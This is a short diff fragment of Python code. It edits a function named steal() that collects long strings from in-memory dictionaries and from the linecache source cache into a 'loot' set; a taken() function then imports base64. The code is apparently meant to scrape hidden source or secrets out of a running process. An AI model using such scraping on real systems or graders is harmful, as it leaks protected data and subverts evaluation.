@@ -106,7 +106,7 @@ def steal():
         if type(one) is dict:
             loot.update(text for text in list(one.values()) if type(text) is str and len(text) > 40)
     for entry in list(linecache.cache.values()):
-        if len(entry) == 4: loot.update(entry[2])
+        loot.update(entry[2] if len(entry) == 4 else (entry[0]() or "").split("\\n"))
 def taken():
     import base64
     steal()
